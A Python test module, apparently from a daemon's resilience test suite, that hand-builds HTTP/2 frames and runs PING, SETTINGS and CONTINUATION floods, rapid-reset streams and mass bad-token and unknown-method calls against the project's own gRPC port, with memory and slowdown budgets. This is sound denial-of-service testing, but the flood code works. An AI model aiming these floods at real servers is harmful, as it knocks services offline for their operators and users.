"""HTTP/2 floods at line rate by one client on gRPC's TCP port: four connections at any time, each replaced as soon as
the daemon closes it."""

from __future__ import annotations

import select
import socket
import struct
import time
from collections.abc import Callable
from functools import partial

from tests.attacks.rows import Budget, Row
from tests.attacks.target import Target, Until

CONNECTIONS = 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_DESCRIBE = "/hearth.v1.NodeService/Describe"
_CALLS = 300
"""Number of calls in one write."""
_CONNECT_TIMEOUT = 0.2
"""Timeout in seconds for establishing a connection."""

Make = Callable[[int], bytes]
"""Function that returns the bytes of several calls, from a stream id on."""


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _field(name: str, value: str) -> bytes:
    """Encodes a header field for HPACK as a literal without indexing."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def _fields(path: str, *more: tuple[str, str]) -> bytes:
    named = [(":path", path), (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    return b"\x83\x86" + b"".join(_field(*each) for each in (*named, *more))


def _calls(make: Callable[[int], bytes], first: int) -> bytes:
    return b"".join(make(first + 2 * number) for number in range(_CALLS))


def _call(fields: bytes, stream: int) -> bytes:
    return _frame(_HEADERS, _END_HEADERS, stream, fields) + _frame(_DATA, _END_STREAM, stream, b"\0\0\0\0\0")


def _reset(stream: int) -> bytes:
    code = struct.pack(">I", 8)
    return _frame(_HEADERS, _END_HEADERS, stream, _fields(_DESCRIBE)) + _frame(_RESET, 0, stream, code)


class _Connection:
    """A connection of a flood, from the start of its handshake on."""

    def __init__(self, address: str, begin: bytes) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        self.socket.setblocking(False)
        self.socket.connect_ex((host.strip("[]"), int(port)))
        self.since = time.monotonic()
        self.stream = 1
        self.taken = False
        """True after the daemon's host has accepted the connection."""
        self._rest = memoryview(begin)

    def send(self, make: Make) -> int:
        """Sends as much as the kernel accepts; returns the number of bytes. Raises `OSError`."""
        if not self._rest:
            self.stream += 2 * _CALLS
            self._rest = memoryview(make(self.stream))
        done = self.socket.send(self._rest)
        self.taken, self._rest = True, self._rest[done:]
        return done


def _flood(target: Target, seconds: float, make: Make, begin: bytes = b"") -> dict[str, int]:
    """Sends the output of `make` as fast as possible, and reads everything that arrives. A connection that the daemon
    closes or does not accept is replaced by a new one."""
    until, sent, opened, closed, ignored = Until(seconds), 0, 0, 0, 0
    begin = _PREFACE + _frame(_SETTINGS, 0, 0) + begin
    open_: dict[socket.socket, _Connection] = {}
    while until:
        while len(open_) < CONNECTIONS:
            one = _Connection(target.grpc, begin)
            open_[one.socket] = one
            opened += 1
        readable, writable, _ = select.select(open_, open_, [], 0.1)
        for number in {*readable, *writable}:
            one = open_[number]
            try:
                if one.taken and number in readable and not number.recv(1 << 20):
                    raise ConnectionResetError
                if number in writable:
                    sent += one.send(make)
            except BlockingIOError:
                continue
            except OSError:
                number.close()
                del open_[number]
                closed += 1
        for number, one in list(open_.items()):
            if not one.taken and time.monotonic() - one.since > _CONNECT_TIMEOUT:
                number.close()
                del open_[number]
                ignored += 1
    for number in open_:
        number.close()
    return {"KiB sent": sent >> 10, "connections": opened, "closed by the daemon": closed, "not taken": ignored}


def pings(target: Target, seconds: float) -> dict[str, int]:
    block = _frame(_PING, 0, 0, b"12345678") * 2000
    return _flood(target, seconds, lambda _: block)


def settings(target: Target, seconds: float) -> dict[str, int]:
    block = _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000
    return _flood(target, seconds, lambda _: block)


def continuations(target: Target, seconds: float) -> dict[str, int]:
    block = _frame(_CONTINUATION, 0, 1, _field("x", "y") * 100) * 50
    return _flood(target, seconds, lambda _: block, _frame(_HEADERS, 0, 1, _fields("/a")))


def rapid_resets(target: Target, seconds: float) -> dict[str, int]:
    return _flood(target, seconds, partial(_calls, _reset))


def unknown_methods(target: Target, seconds: float) -> dict[str, int]:
    return _flood(target, seconds, partial(_calls, partial(_call, _fields("/no.such.Service/Method"))))


def bad_tokens(target: Target, seconds: float) -> dict[str, int]:
    fields = _fields(_DESCRIBE, ("authorization", "Bearer hearth_" + "x" * 40))
    return _flood(target, seconds, partial(_calls, partial(_call, fields)))


def health_checks(target: Target, seconds: float) -> dict[str, int]:
    return _flood(target, seconds, partial(_calls, partial(_call, _fields("/grpc.health.v1.Health/Check"))))


_BUDGET = Budget(slower=5.0, rate=0.5)
_CALLS_BUDGET = Budget(slower=5.0, rate=0.5, growth_mib=40)
"""gRPC creates a call for each stream before the front sees it: 512 for each connection
(`grpc.max_concurrent_streams`), of about 15 KiB; 26 to 34 MiB were measured."""
_BLOCKS_BUDGET = Budget(slower=5.0, rate=0.5, growth_mib=96)
"""gRPC keeps the frames of an unfinished header block until they exceed its limit: 42 to 54 MiB were measured, and 78
while other work ran, when new connections begin before the memory of closed ones is released."""

ROWS = (
    Row("PING flood", pings, _BUDGET, via="grpc"),
    Row("SETTINGS flood", settings, _BUDGET, via="grpc"),
    Row("CONTINUATION flood", continuations, _BLOCKS_BUDGET, via="grpc"),
    Row("rapid reset", rapid_resets, _CALLS_BUDGET, via="grpc"),
    Row("unknown methods", unknown_methods, _CALLS_BUDGET, via="grpc"),
    Row("bad tokens", bad_tokens, _CALLS_BUDGET, via="grpc"),
    Row("health checks", health_checks, _CALLS_BUDGET, via="grpc"),
)
